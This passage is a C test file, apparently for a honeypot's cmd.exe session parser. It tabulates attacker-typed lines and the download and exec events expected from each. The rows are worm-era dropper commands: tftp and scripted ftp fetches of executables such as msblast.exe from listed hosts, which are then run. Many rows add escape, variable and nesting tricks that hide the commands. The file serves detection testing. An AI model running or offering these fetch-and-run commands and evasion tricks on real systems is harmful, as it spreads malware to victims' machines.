/*
 * The cmd.exe model, table-driven. Each row is a line the attacker types
 * (LF added), the events a user would expect for it and why, with the
 * source of the rule. Rows with the same session tag share one session,
 * in order; each session starts with the victim's banner on the server
 * side, so the client is the attacker.
 *
 * Expected events, "; "-separated:
 *   get HOST FILE[>LOCAL]            tftp
 *   ftp-get HOST:PORT FILE[>LOCAL] USER/PASS
 *   start FILE        exec FILE
 * A trailing "!" marks name_ok false. Bytes outside 0x21..0x7e print as
 * \xNN, so a space in a name is \x20.
 *
 * Sources: [SO4094699] the StackOverflow answers on cmd.exe's parsing
 * phases (jeb, dbenham); [KB830473]; Microsoft's Windows Commands docs
 * [cmd] [call] [if] [for] [set] [start] [echo] [ftp] [tftp] [rundll32];
 * [redir] "Using command redirection operators"; [argv] "Parsing C
 * command-line arguments"; [inet_addr] "inet_addr function (winsock2.h)";
 * [Chen] "Environment variable expansion occurs when the command is read";
 * [peers] /work/shared/docs/peers.md (lines seen in the wild, Nepenthes and
 * Dionaea notes); [issue11] the issue's own examples.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "shell.h"

#define BANNER "Microsoft Windows XP [Version 5.1.2600]\r\n" \
	"(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"

#define A10 "aaaaaaaaaa"
#define A100 A10 A10 A10 A10 A10 A10 A10 A10 A10 A10
#define LONG300 A100 A100 A100

struct row {
	const char *sess;	/* a new tag starts a new session */
	const char *line;
	size_t len;		/* 0: strlen(line) */
	const char *want;	/* "" for no event */
	const char *why;
};

static const struct row rows[] = {
	/* ---- Blaster and its kin, as typed */
	{"b", "tftp -i 81.132.114.254 GET msblast.exe", 0, "get 81.132.114.254 msblast.exe", "Blaster's line [peers]"},
	{"b", "start msblast.exe", 0, "start msblast.exe", "start PROG [start]"},
	{"b", "msblast.exe", 0, "exec msblast.exe", "a fetched name runs"},
	{"b", "msblast", 0, "exec msblast", "without extension: cmd.exe tries PATHEXT [cmd]"},
	{"b", "MSBLAST.EXE /x", 0, "exec MSBLAST.EXE", "names are case-insensitive; arguments allowed"},
	{"b", "C:\\WINDOWS\\system32\\msblast.exe", 0, "exec C:\\WINDOWS\\system32\\msblast.exe", "a fetched name with a path"},
	{"b", "\"msblast.exe\"", 0, "exec msblast.exe", "quoted program name [SO4094699]"},
	{"b", "msblast.txt", 0, "", "same stem, other extension: not what was fetched"},
	{"v", "tftp -i 62.30.7.11 GET teekids.exe\r", 0, "get 62.30.7.11 teekids.exe", "CRLF: CR removed in phase 1.5 [SO4094699]"},
	{"v", "TFTP -I 200.40.1.9 GET MSLAUGH.EXE", 0, "get 200.40.1.9 MSLAUGH.EXE", "upper case [tftp]"},
	{"v", "tftp\t-i   24.5.66.7\t\tGet   penis32.exe  ", 0, "get 24.5.66.7 penis32.exe", "tabs and runs of spaces [argv]"},
	{"v", "Tftp 1.2.3.4 gEt x.exe", 0, "get 1.2.3.4 x.exe", "no -i: ascii mode, still a download [tftp]"},
	{"v", "tftp -i 1.2.3.4 get x.exe c:\\y.exe", 0, "get 1.2.3.4 x.exe>c:\\y.exe", "local name [tftp]"},
	{"v", "c:\\y.exe", 0, "exec c:\\y.exe", "the local name of a GET runs [issue11]"},
	{"v", "y", 0, "exec y", "the local name without extension [cmd]"},
	{"v", "x.exe", 0, "exec x.exe", "executable extension [issue11]"},
	/* ---- escapes */
	{"e", "t^f^t^p -i 1.2.3.4 G^ET a^.exe", 0, "get 1.2.3.4 a.exe", "^ escapes and goes [SO4094699 phase 2]"},
	{"e", "tftp -i 1.2.3.4 GET b.exe ^& b.exe", 0, "", "^& is a literal &: five arguments, tftp refuses [SO4094699]"},
	{"e", "echo x ^& start c.exe", 0, "", "^& is text of echo"},
	{"e", "tftp -i 1.2.3.4 GET ^\"q.exe", 0, "get 1.2.3.4 q.exe", "^\" is a literal quote for cmd; tftp's runtime drops it [argv]"},
	{"e", "tftp -i 1.2.3.4 GET q^^.exe", 0, "get 1.2.3.4 q^.exe", "^^ is a literal ^"},
	{"e", "echo \"a ^& b\" & tftp -i 1.2.3.4 GET r.exe", 0, "get 1.2.3.4 r.exe", "inside quotes ^ is literal, the quote ends, & separates"},
	/* ---- separators */
	{"c", "tftp -i 10.120.57.149 GET h3110.411 package.exe & package.exe & exit", 0, "get 10.120.57.149 h3110.411>package.exe; exec package.exe", "chained as in the wild [peers]"},
	{"c", "tftp -i 1.2.3.4 GET a.exe&&start a.exe||a.exe", 0, "get 1.2.3.4 a.exe; start a.exe; exec a.exe", "&& and || [SO4094699]; conditions not evaluated"},
	{"c", "tftp -i 1.2.3.4 GET b.exe | more", 0, "get 1.2.3.4 b.exe", "| runs both sides"},
	{"c", "echo hello | tftp -i 1.2.3.4 GET b2.exe", 0, "get 1.2.3.4 b2.exe", "right side of a pipe runs"},
	{"c", "echo hello ; tftp -i 1.2.3.4 GET q.exe", 0, "", "; separates nothing in cmd.exe: echo's text [issue11] [SO4094699]"},
	{"c", "tftp -i 1.2.3.4 GET a;b.exe", 0, "get 1.2.3.4 a;b.exe", "; inside a program's argument stays [argv]"},
	{"c", "tftp -i 1.2.3.4 GET a,b.exe", 0, "get 1.2.3.4 a,b.exe", ", inside an argument stays [argv]"},
	{"c", "echo \"a & tftp -i 1.2.3.4 GET q.exe\"", 0, "", "separator inside quotes [SO4094699]"},
	{"c", "rem & tftp -i 1.2.3.4 GET q.exe", 0, "", "REM ignores the rest, & included [issue11] [SO4094699]"},
	{"c", "REM tftp -i 1.2.3.4 GET q.exe", 0, "", "a comment"},
	{"c", "@rem tftp -i 1.2.3.4 GET q.exe", 0, "", "@ then REM"},
	{"c", "remark.exe", 0, "exec remark.exe", "REM only as a whole word"},
	{"c", "echo 1&echo 2&echo 3&echo 4&echo 5&echo 6&echo 7&echo 8&tftp -i 1.2.3.4 GET n9.exe", 0, "get 1.2.3.4 n9.exe", "a 9th command on one line [issue11]"},
	{"c", "exit & tftp -i 1.2.3.4 GET q.exe", 0, "", "exit ends the shell: nothing after it runs [cmd]"},
	{"c", "tftp -i 1.2.3.4 GET x1.exe & exit", 0, "get 1.2.3.4 x1.exe", "exit after the download"},
	/* ---- redirections */
	{"r", "tftp -i 1.2.3.4 GET x.exe >nul 2>&1", 0, "get 1.2.3.4 x.exe", "2>&1: the & belongs to the redirection [redir] [issue11]"},
	{"r", ">nul tftp -i 1.2.3.4 GET x2.exe", 0, "get 1.2.3.4 x2.exe", "redirection before the command [SO4094699]"},
	{"r", "tftp -i 1.2.3.4 >nul GET x3.exe", 0, "get 1.2.3.4 x3.exe", "redirection inside the command"},
	{"r", "> o echo open 4.3.2.1& echo get r1.exe>>o& echo bye>>o& ftp -A -s:o", 0, "ftp-get 4.3.2.1:21 r1.exe anonymous/", "redirection first, then echo: the file holds the text [SO4094699]"},
	{"r", "tftp -i 1.2.3.4 GET x4.exe 2>nul", 0, "get 1.2.3.4 x4.exe", "a handle digit standing alone [redir]"},
	{"r", "tftp -i 1.2.3.4 GET x5.exe2>nul", 0, "get 1.2.3.4 x5.exe2", "a digit inside a word is no handle: name x5.exe2, stdout to nul [SO4094699]"},
	{"r", "tftp -i 1.2.3.4 GET x6.exe>nul", 0, "get 1.2.3.4 x6.exe", "> right after the name"},
	{"r", "tftp -i 1.2.3.4 GET x7.exe 1>nul 2>&1 & x7.exe", 0, "get 1.2.3.4 x7.exe; exec x7.exe", "redirections then a separator"},
	{"r", "tftp -i 1.2.3.4 GET x8.exe < nul", 0, "get 1.2.3.4 x8.exe", "input redirection with a space"},
	{"r", "tftp -i 1.2.3.4 GET x9.exe >> \"c:\\log file.txt\"", 0, "get 1.2.3.4 x9.exe", "quoted redirection target"},
	{"r", "tftp -i 1.2.3.4 2>&1 GET y1.exe", 0, "get 1.2.3.4 y1.exe", "2>&1 in the middle"},
	/* ---- @, blocks, call, if, for */
	{"k", "@tftp -i 1.2.3.4 GET a1.exe", 0, "get 1.2.3.4 a1.exe", "@ hides the echo only [SO4094699]"},
	{"k", "(tftp -i 1.2.3.4 GET a2.exe)", 0, "get 1.2.3.4 a2.exe", "a parenthesised block [SO4094699]"},
	{"k", "(tftp -i 1.2.3.4 GET a3.exe) & (start a3.exe)", 0, "get 1.2.3.4 a3.exe; start a3.exe", "two blocks"},
	{"k", "( tftp -i 1.2.3.4 GET a4.exe & a4.exe )", 0, "get 1.2.3.4 a4.exe; exec a4.exe", "commands inside a block"},
	{"k", "call tftp -i 1.2.3.4 GET a5.exe", 0, "get 1.2.3.4 a5.exe", "call runs its arguments [call]"},
	{"k", "call call tftp -i 1.2.3.4 GET a6.exe", 0, "get 1.2.3.4 a6.exe", "call of call"},
	{"k", "if 1==1 tftp -i 1.2.3.4 GET a7.exe", 0, "get 1.2.3.4 a7.exe", "if A==B COMMAND [if] [issue11]"},
	{"k", "if a == b tftp -i 1.2.3.4 GET a8.exe", 0, "get 1.2.3.4 a8.exe", "spaces around == [if]; the condition is not evaluated"},
	{"k", "if not exist a9.exe tftp -i 1.2.3.4 GET a9.exe", 0, "get 1.2.3.4 a9.exe", "if not exist [if]"},
	{"k", "if exist a9.exe (start a9.exe) else (tftp -i 1.2.3.4 GET b1.exe)", 0, "start a9.exe; get 1.2.3.4 b1.exe", "both branches of if/else [if]"},
	{"k", "if errorlevel 1 tftp -i 1.2.3.4 GET b2.exe", 0, "get 1.2.3.4 b2.exe", "if errorlevel N [if]"},
	{"k", "if /i \"%OS%\"==\"windows_nt\" tftp -i 1.2.3.4 GET b3.exe", 0, "get 1.2.3.4 b3.exe", "if /i with quoted operands [if]"},
	{"k", "if defined windir tftp -i 1.2.3.4 GET b4.exe", 0, "get 1.2.3.4 b4.exe", "if defined [if]"},
	{"k", "if 1 equ 1 tftp -i 1.2.3.4 GET b5.exe", 0, "get 1.2.3.4 b5.exe", "if A equ B [if]"},
	{"k", "if tftp -i 1.2.3.4 GET b6.exe", 0, "", "no comparison: cmd.exe rejects the line [if]"},
	{"k", "IF NOT 1==2 @tftp -i 1.2.3.4 GET b7.exe", 0, "get 1.2.3.4 b7.exe", "upper case, @ in the body"},
	{"k", "for %a in (1) do tftp -i 1.2.3.4 GET c1.exe", 0, "get 1.2.3.4 c1.exe", "for ... do COMMAND [for] [issue11]"},
	{"k", "for %a in (c2.exe c3.exe) do tftp -i 1.2.3.4 GET %a", 0, "get 1.2.3.4 c2.exe; get 1.2.3.4 c3.exe", "the body runs once per item, %a replaced [for]"},
	{"k", "for /l %i in (1,1,2) do tftp -i 1.2.3.4 GET f%i.exe", 0, "get 1.2.3.4 f1.exe; get 1.2.3.4 f2.exe", "for /l start,step,end [for]"},
	{"k", "for /f %a in (\"5.6.7.8 x\") do tftp -i %a GET c4.exe", 0, "get 5.6.7.8 c4.exe", "for /f over a string: its first token [for]"},
	{"k", "for %a in (*.exe) do start %a", 0, "", "wildcards name the victim's disk: not run"},
	{"k", "for %%a in (1) do tftp -i 1.2.3.4 GET c5.exe", 0, "", "%%a is batch syntax: an error on the command line [SO4094699]"},
	{"k", "for %a in (1) do (tftp -i 1.2.3.4 GET c6.exe)", 0, "get 1.2.3.4 c6.exe", "a block as the body"},
	/* ---- variables */
	{"s", "set x=tftp", 0, "", "set NAME=VALUE [set]"},
	{"s", "%x% -i 1.2.3.4 GET s1.exe", 0, "get 1.2.3.4 s1.exe", "%x% expands to the session's value [SO4094699 phase 1]"},
	{"s", "set y=ft", 0, "", "set"},
	{"s", "t%y%p -i 1.2.3.4 GET s2.exe", 0, "get 1.2.3.4 s2.exe", "a variable inside a word [issue11]"},
	{"s", "t%Y%p -i 1.2.3.4 GET s3.exe", 0, "get 1.2.3.4 s3.exe", "variable names are case-insensitive [set]"},
	{"s", "t%nope%p -i 1.2.3.4 GET s4.exe", 0, "", "undefined: left as typed on the command line [SO4094699]"},
	{"s", "set \"p=-i 1.2.3.4\"", 0, "", "set \"NAME=VALUE\" [set]"},
	{"s", "tftp %p% GET s5.exe", 0, "get 1.2.3.4 s5.exe", "a value holding several words"},
	{"s", "set x=", 0, "", "set NAME= deletes [set]"},
	{"s", "%x% -i 1.2.3.4 GET s6.exe", 0, "", "deleted: %x% stays as typed"},
	{"s", "set z=tftp & %z% -i 1.2.3.4 GET s7.exe", 0, "", "expansion happens when the line is read, before set runs [Chen]"},
	{"s", "%z% -i 1.2.3.4 GET s8.exe", 0, "get 1.2.3.4 s8.exe", "the next line sees it"},
	{"s", "%COMSPEC% /c tftp -i 1.2.3.4 GET s9.exe", 0, "get 1.2.3.4 s9.exe", "%COMSPEC% is cmd.exe [issue11] [cmd]"},
	{"s", "%windir%\\system32\\tftp.exe -i 1.2.3.4 GET t1.exe", 0, "get 1.2.3.4 t1.exe", "%windir% [set]"},
	{"s", "%SystemRoot%\\system32\\cmd.exe /c tftp -i 1.2.3.4 GET t2.exe", 0, "get 1.2.3.4 t2.exe", "%SystemRoot%"},
	{"s", "set w=abctftpxyz", 0, "", "set"},
	{"s", "%w:~3,4% -i 1.2.3.4 GET t3.exe", 0, "get 1.2.3.4 t3.exe", "%VAR:~start,len% [set]"},
	{"s", "%w:~-7,4% -i 1.2.3.4 GET t4.exe", 0, "get 1.2.3.4 t4.exe", "negative start counts from the end [set]"},
	{"s", "set q=tXtp", 0, "", "set"},
	{"s", "%q:X=f% -i 1.2.3.4 GET t5.exe", 0, "get 1.2.3.4 t5.exe", "%VAR:old=new% [set]"},
	{"s", "%comspec:~-7,3% /c tftp -i 1.2.3.4 GET t6.exe", 0, "get 1.2.3.4 t6.exe", "substring of a default variable: cmd"},
	{"s", "set /a n=1+1", 0, "", "set /a: arithmetic, no command"},
	{"s", "echo %%x%%", 0, "", "%% stays on the command line [SO4094699]"},
	/* ---- cmd /c and /k */
	{"m", "cmd /c tftp -i 1.2.3.4 GET m1.exe", 0, "get 1.2.3.4 m1.exe", "cmd /c runs the rest [cmd]"},
	{"m", "cmd/c tftp -i 1.2.3.4 GET m2.exe", 0, "get 1.2.3.4 m2.exe", "cmd/c: the / ends the name [issue11]"},
	{"m", "cmd.exe /k start m2.exe", 0, "start m2.exe", "cmd.exe /k [cmd]"},
	{"m", "CMD /Q /C \"tftp -i 5.6.7.8 get m3.exe & m3.exe\"", 0, "get 5.6.7.8 m3.exe; exec m3.exe", "a quoted rest: first and last quote go, & runs inside [cmd]"},
	{"m", "cmd /c cmd /c tftp -i 1.2.3.4 GET m4.exe", 0, "get 1.2.3.4 m4.exe", "nested"},
	{"m", "C:\\WINDOWS\\system32\\cmd.exe /c tftp -i 1.2.3.4 GET m5.exe", 0, "get 1.2.3.4 m5.exe", "full path"},
	{"m", "cmd /c \"tftp -i 1.2.3.4 GET m6.exe\" & m6.exe", 0, "get 1.2.3.4 m6.exe; exec m6.exe", "the outer & runs in the outer shell"},
	{"m", "cmd /c tftp -i 1.2.3.4 GET m7.exe ^& m7.exe", 0, "get 1.2.3.4 m7.exe; exec m7.exe", "^& reaches the inner cmd as & and separates there [cmd]"},
	{"m", "cmd", 0, "", "a new shell reading the same input: nothing yet"},
	{"m", "cmd /c", 0, "", "nothing to run"},
	{"m", "cmd /q /d /c \"\"C:\\x y\\tftp.exe\" -i 1.2.3.4 GET m8.exe\"", 0, "get 1.2.3.4 m8.exe", "the outer quotes go, the inner stay [cmd]"},
	{"m", "cmd /ctftp -i 1.2.3.4 GET m9.exe", 0, "get 1.2.3.4 m9.exe", "/c glued to the command"},
	{"m", "start cmd /c tftp -i 1.2.3.4 GET n1.exe", 0, "start cmd", "start of cmd: one start event"},
	/* ---- delimiters, CR, program names */
	{"d", ",;= tftp -i 1.2.3.4 GET d1.exe", 0, "get 1.2.3.4 d1.exe", "leading , ; = are delimiters [SO4094699] [issue11]"},
	{"d", "tftp,-i 1.2.3.4 GET d2.exe", 0, "get 1.2.3.4 d2.exe", ", ends cmd's name; tftp's runtime takes \"tftp,-i\" as argv[0], leaving ascii mode [argv]"},
	{"d", "tf\rtp -i 1.2.3.4 GET d3.exe", 0, "get 1.2.3.4 d3.exe", "a CR inside a word is removed [SO4094699 phase 1.5] [issue11]"},
	{"d", "\"tftp\" -i 1.2.3.4 GET d4.exe", 0, "get 1.2.3.4 d4.exe", "quoted program name"},
	{"d", "\"C:\\WINDOWS\\system32\\tftp.exe\" -i 1.2.3.4 GET d5.exe", 0, "get 1.2.3.4 d5.exe", "quoted full path"},
	{"d", "c:/windows/system32/TFTP.EXE -i evil.example.com GET d6.exe c:\\d6.exe", 0, "get evil.example.com d6.exe>c:\\d6.exe", "forward slashes in a path"},
	{"d", "c:\\d6.exe", 0, "exec c:\\d6.exe", "the local name with its path"},
	{"d", "tftp -i 1.2.3.4 GET \"d 7.exe\"", 0, "get 1.2.3.4 d\\x207.exe", "a quoted name with a space [argv]"},
	{"d", "tftp -i 1.2.3.4 GET d8\\\"x", 0, "get 1.2.3.4 d8\"x", "\\\" is a literal quote [argv]"},
	{"d", "tftp -i 1.2.3.4 GET ..\\..\\windows\\d9.exe", 0, "get 1.2.3.4 ..\\..\\windows\\d9.exe", "a path in the name: reported as typed"},
	{"d", "mytftp -i 1.2.3.4 GET x.exe", 0, "", "another program"},
	{"d", "tftpd -i 1.2.3.4 GET x.exe", 0, "", "another program"},
	{"d", "tftp.com -i 1.2.3.4 GET x.exe", 0, "exec tftp.com", "not tftp.exe: an unknown .com runs"},
	/* ---- tftp syntax */
	{"t", "echo tftp -i 1.2.3.4 GET x.exe", 0, "", "echo prints it"},
	{"t", "tftp -i 1.2.3.4 PUT x.exe", 0, "", "PUT uploads [tftp]"},
	{"t", "tftp -i 1.2.3.4 GET", 0, "", "no source [tftp]"},
	{"t", "tftp -i 1.2.3.4", 0, "", "no command"},
	{"t", "tftp -i", 0, "", "no host"},
	{"t", "tftp", 0, "", "usage"},
	{"t", "tftp -i 1.2.3.4 GET a b c", 0, "", "too many arguments [tftp]"},
	{"t", "tftp -x 1.2.3.4 GET a.exe", 0, "", "unknown option"},
	{"t", "tftp -i 010.0.0.1 GET o.exe", 0, "get 010.0.0.1 o.exe", "octal host, logged as typed [inet_addr]"},
	{"t", "tftp -i 0x51847226 GET h.exe", 0, "get 0x51847226 h.exe", "hex host [inet_addr]"},
	{"t", "tftp -i 1.2.3 GET p.exe", 0, "get 1.2.3 p.exe", "a 3-part address is 1.2.0.3 [inet_addr]"},
	{"t", "tftp -i host-1.example.org GET n.exe", 0, "get host-1.example.org n.exe", "a name: reported, never resolved"},
	{"t", "tftp -i fe80::1 GET v6.exe", 0, "get fe80::1 v6.exe", "not an inet_addr literal: reported as a name"},
	{"t", "tftp -i 1.2.3.4 GET x\001y.exe", 0, "get 1.2.3.4 x\\x01y.exe!", "a control byte: reported, name_ok false [issue11]"},
	{"t", "tftp -i 1.2.3.4 GET x\0y.exe", 27, "get 1.2.3.4 x\\x00y.exe!", "a NUL byte: reported, name_ok false"},
	{"t", "tftp -i 1.2.3.4 GET " LONG300, 0, "get 1.2.3.4 " LONG300 "!", "over 255 characters: reported, name_ok false [issue11]"},
	{"t", "tftp -i 1.2.3.4 GET \xe5\x90\x8d.exe", 0, "get 1.2.3.4 \\xe5\\x90\\x8d.exe", "non-ASCII bytes are usable"},
	{"t", "start " LONG300 ".exe", 0, "start " LONG300 ".exe!", "an over-long start is still reported"},
	/* ---- start */
	{"st", "start \"\" /b x.exe", 0, "start x.exe", "an empty title, /b [start]"},
	{"st", "start /min y.exe", 0, "start y.exe", "an option [start]"},
	{"st", "start \"title\" /d c:\\ z.exe arg", 0, "start z.exe", "/d takes a value [start]"},
	{"st", "START \"\" \"c:\\program files\\w.exe\"", 0, "start c:\\program\\x20files\\w.exe", "title then a quoted program"},
	{"st", "start \"w.exe\"", 0, "", "the only argument is a title [start]"},
	{"st", "start", 0, "", "a new window, no program"},
	{"st", "start /b", 0, "", "options only"},
	{"st", "start /w DL.exe", 0, "start DL.exe", "start /w [issue11]"},
	{"st", "start /wait /high q.exe", 0, "start q.exe", "two options"},
	{"st", "start/b r.exe", 0, "start r.exe", "/ ends the name"},
	{"st", "start tftp -i 1.2.3.4 GET x.exe", 0, "start tftp", "start tftp ... is logged as start tftp [issue11]"},
	{"st", "@start msblast.exe", 0, "start msblast.exe", "@"},
	/* ---- exec */
	{"x", "rundll32 x.dll,entry", 0, "exec x.dll", "rundll32 DLL,ENTRY runs the DLL [issue11] [rundll32]"},
	{"x", "rundll32.exe C:\\a\\b.dll,Start 1", 0, "exec C:\\a\\b.dll", "full form"},
	{"x", "rundll32", 0, "", "no DLL"},
	{"x", "notes.com", 0, "exec notes.com", "executable extension"},
	{"x", "run.bat", 0, "exec run.bat", "executable extension"},
	{"x", "x.scr", 0, "exec x.scr", "executable extension"},
	{"x", "a.vbs", 0, "exec a.vbs", "PATHEXT .VBS"},
	{"x", "unknown.exe -arg", 0, "exec unknown.exe", "any name with an executable extension, arguments allowed [issue11]"},
	{"x", "\"c:\\x y\\z.exe\" a", 0, "exec c:\\x\\x20y\\z.exe", "a quoted path with a space"},
	{"x", "readme.txt", 0, "", "not executable"},
	{"x", "dir c:\\", 0, "", "internal command"},
	{"x", "net user x y /add", 0, "", "not a dropper"},
	{"x", "ipconfig /all", 0, "", "not a dropper"},
	{"x", "GET /msblast.exe HTTP/1.0", 0, "", "an HTTP request line is no command"},
	{"x", "echo tftp -i 1.2.3.4 GET b1.exe > t.bat & echo b1.exe >> t.bat", 0, "", "a batch file written with echo [echo]"},
	{"x", "t.bat", 0, "exec t.bat; get 1.2.3.4 b1.exe; exec b1.exe", "running it runs its lines"},
	/* ---- ftp scripts */
	{"f1", "echo open 84.178.229.215 13468 > o&echo user 1 1 >> o &echo get sysmsvc.exe >> o &echo quit >> o &ftp -n -s:o &sysmsvc.exe", 0, "ftp-get 84.178.229.215:13468 sysmsvc.exe 1/1; exec sysmsvc.exe", "the Sasser-era script [peers] [ftp]"},
	{"f2", "echo open 12.22.206.206 5554>>cmd.ftp&echo anonymous>>cmd.ftp&echo user@>>cmd.ftp&echo bin>>cmd.ftp&echo get w.exe>>cmd.ftp&echo bye>>cmd.ftp&ftp -s:cmd.ftp&w.exe", 0, "ftp-get 12.22.206.206:5554 w.exe anonymous/user@; exec w.exe", "no -n: the lines after open answer User and Password [ftp] [peers]; 5554>> is no handle"},
	{"f3", "echo user x y> s & echo get a.exe b.exe>> s & echo bye>> s", 0, "", "a script without open"},
	{"f3", "ftp -s:s -n 1.2.3.4", 0, "ftp-get 1.2.3.4:21 a.exe>b.exe x/y", "host on the command line, then the script [ftp]"},
	{"f3", "b", 0, "exec b", "the local name runs"},
	{"f4", "echo open 9.8.7.6>f&echo u>>f&echo p>>f&ftp -s:f", 0, "", "a script that does not quit: ftp reads on"},
	{"f4", "get z.exe", 0, "ftp-get 9.8.7.6:21 z.exe u/p", "typed into ftp"},
	{"f4", "bye", 0, "", "ftp ends"},
	{"f4", "z.exe", 0, "exec z.exe", "back in cmd"},
	{"f5", "ftp -s:missing", 0, "", "a script we never saw written"},
	{"f5", "get y.exe", 0, "", "not in ftp: cmd's get"},
	{"f6", "echo open 1.2.3.4>o&echo get a.exe>>o&del /F /Q o&ftp -n -s:o", 0, "", "del removes the file first"},
	{"f7", "echo open 1.2.3.4>m&echo user a b>>m&echo mget a.exe b.exe>>m&echo quit>>m&ftp -n -i -s:m", 0, "ftp-get 1.2.3.4:21 a.exe a/b; ftp-get 1.2.3.4:21 b.exe a/b", "mget [ftp]"},
	{"f8", "echo open 1.2.3.4 2121 > o & echo get a.exe >> o & echo quit >> o", 0, "", "script"},
	{"f8", "ftp -A -s:o", 0, "ftp-get 1.2.3.4:2121 a.exe anonymous/", "-A: anonymous login [ftp]"},
	{"f9", "echo.open 1.2.3.4>o&echo.user a b>>o&echo.recv r.exe>>o&echo.bye>>o&ftp -n -s:o", 0, "ftp-get 1.2.3.4:21 r.exe a/b", "echo. writes the text after the dot; recv [echo] [ftp]"},
	{"f10", "(echo open 1.2.3.4& echo user a b& echo get a.exe& echo bye) > o", 0, "", "a block redirected: all its echoes go in"},
	{"f10", "ftp -n -s:o", 0, "ftp-get 1.2.3.4:21 a.exe a/b", "the block's file holds its four lines [redir]"},
	{"f12", "(echo open 1.2.3.4& echo get q.exe& echo bye) 2>nul", 0, "", "a block redirecting stderr only: the echoes go to the console"},
	{"f12", "ftp -A -s:o", 0, "", "no file o was written"},
	{"f12", "(echo open 1.2.3.4& echo get q.exe& echo bye)>>o & ftp -A -s:o", 0, "ftp-get 1.2.3.4:21 q.exe anonymous/", "a block appended to a file, then the script, on one line"},
	{"f12", "((echo open 1.2.3.5) & (echo get r.exe)) > p & ftp -A -s:p & (r.exe)", 0, "ftp-get 1.2.3.5:21 r.exe anonymous/; exec r.exe", "nested blocks inside the redirected one"},
	{"f11", "cmd /c echo open 1.2.3.4 > o & cmd /c echo get a.exe >> o", 0, "", "cmd /c echo with the outer redirection"},
	{"f11", "ftp -A -s:o", 0, "ftp-get 1.2.3.4:21 a.exe anonymous/", "the outer redirection filled the file"},
	/* ---- interactive ftp */
	{"i1", "ftp -A 192.168.1.10", 0, "", "interactive ftp, anonymous [issue11]"},
	{"i1", "get sqlite3.exe", 0, "ftp-get 192.168.1.10:21 sqlite3.exe anonymous/", "typed into ftp"},
	{"i1", "bye", 0, "", "ftp ends"},
	{"i1", "sqlite3 db \"select 1\"", 0, "exec sqlite3", "a fetched name without extension, with arguments [issue11]"},
	{"i2", "ftp 5.6.7.8", 0, "", "ftp asks User, then Password [ftp]"},
	{"i2", "bob", 0, "", "user"},
	{"i2", "secret", 0, "", "password"},
	{"i2", "binary", 0, "", "ignored"},
	{"i2", "get a.exe c:\\a.exe", 0, "ftp-get 5.6.7.8:21 a.exe>c:\\a.exe bob/secret", "get REMOTE LOCAL"},
	{"i2", "quit", 0, "", "ftp ends"},
	{"i2", "c:\\a.exe", 0, "exec c:\\a.exe", "the local name runs"},
	{"i3", "ftp", 0, "", "ftp without a host"},
	{"i3", "open 1.2.3.4 2121", 0, "", "open HOST PORT: ftp asks User, then Password [ftp]"},
	{"i3", "u", 0, "", "user"},
	{"i3", "p", 0, "", "password"},
	{"i3", "recv r.exe", 0, "ftp-get 1.2.3.4:2121 r.exe u/p", "recv"},
	{"i3", "bye", 0, "", "end"},
	{"i4", "ftp -n 1.2.3.4 2121", 0, "", "a port after the host [issue11]"},
	{"i4", "user a", 0, "", "user without password: the next line is the password"},
	{"i4", "pw", 0, "", "password"},
	{"i4", "get q.exe", 0, "ftp-get 1.2.3.4:2121 q.exe a/pw", "get"},
	{"i4", "quit", 0, "", "end"},
	/* ---- continuation */
	{"n", "tftp -i 1.2.3.4 ^", 0, "", "^ at the end continues onto the next line [SO4094699] [issue11]"},
	{"n", "GET c1.exe", 0, "get 1.2.3.4 c1.exe", "the continued line completes the command"},
	{"n", "echo a^", 0, "", "continues"},
	{"n", "& tftp -i 1.2.3.4 GET c2.exe", 0, "", "the first character of the next line is escaped: & is text"},
	{"n", "tftp -i 1.2.3.4 GET c3.exe ^\r", 0, "", "CR after the ^ does not stop it"},
	{"n", "& c3.exe", 0, "", "joined, the & is escaped text: tftp gets 6 arguments and refuses (unjoined, c3.exe would run)"},
	{"n", "\"tftp -i 1.2.3.4 GET c4.exe ^\"", 0, "", "a ^ inside quotes is text: no continuation, a quoted command name that is not a program"},
};

static char *fmt_bytes(char *o, const char *s, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)s[i];

		if (c < 0x21 || c > 0x7e)
			o += sprintf(o, "\\x%02x", c);
		else
			*o++ = (char)c;
	}
	*o = '\0';
	return o;
}

struct got {
	char text[8192];
	size_t len;
};

static void on_event(const struct ws_shell_event *ev, void *arg)
{
	struct got *g = arg;
	char *o = g->text + g->len;

	if (g->len)
		o += sprintf(o, "; ");
	o += sprintf(o, "%s ", ws_shell_action_name(ev->action));
	if (ev->action == WS_SHELL_GET || ev->action == WS_SHELL_FTP_GET) {
		char server[1024];
		size_t sn = ws_shell_server_text(ev, server, sizeof(server));

		o = fmt_bytes(o, ev->host, ev->host_len);
		if (ev->action == WS_SHELL_FTP_GET)
			o += sprintf(o, ":%u", ev->port);
		*o++ = ' ';
		/* the Server column: host as typed, ":port" only for ftp off 21 */
		if (sn != ev->host_len + (ev->action == WS_SHELL_FTP_GET && ev->port != 21 ?
					  (size_t)snprintf(NULL, 0, ":%u", ev->port) : 0) ||
		    memcmp(server, ev->host, ev->host_len) != 0)
			o += sprintf(o, "[bad server text %s] ", server);
	}
	o = fmt_bytes(o, ev->file, ev->file_len);
	if (ev->local_len) {
		*o++ = '>';
		o = fmt_bytes(o, ev->local, ev->local_len);
	}
	if (ev->action == WS_SHELL_FTP_GET)
		o += sprintf(o, " %s/%s", ev->user, ev->pass);
	if (!ev->name_ok)
		*o++ = '!';
	*o = '\0';
	g->len = (size_t)(o - g->text);
	if (ev->attacker != WS_SIDE_CLIENT)
		g->len += (size_t)sprintf(g->text + g->len, " [wrong side]");
}

int main(void)
{
	struct ws_shell *s = NULL;
	const char *cur = NULL;
	struct timeval ts = {1061301600, 0};
	int bad = 0;
	size_t n = sizeof(rows) / sizeof(rows[0]);

	for (size_t i = 0; i < n; i++) {
		const struct row *r = &rows[i];
		size_t len = r->len ? r->len : strlen(r->line);
		struct got g = {.len = 0};
		char *buf = malloc(len + 1);

		if (!cur || strcmp(cur, r->sess) != 0) {
			ws_shell_free(s);
			s = ws_shell_new();
			ws_shell_feed(s, WS_SIDE_SERVER, (const uint8_t *)BANNER, strlen(BANNER), &ts,
				      on_event, &g);
			cur = r->sess;
		}
		g.text[0] = '\0';
		memcpy(buf, r->line, len);
		buf[len] = '\n';
		ws_shell_feed(s, WS_SIDE_CLIENT, (const uint8_t *)buf, len + 1, &ts, on_event, &g);
		free(buf);
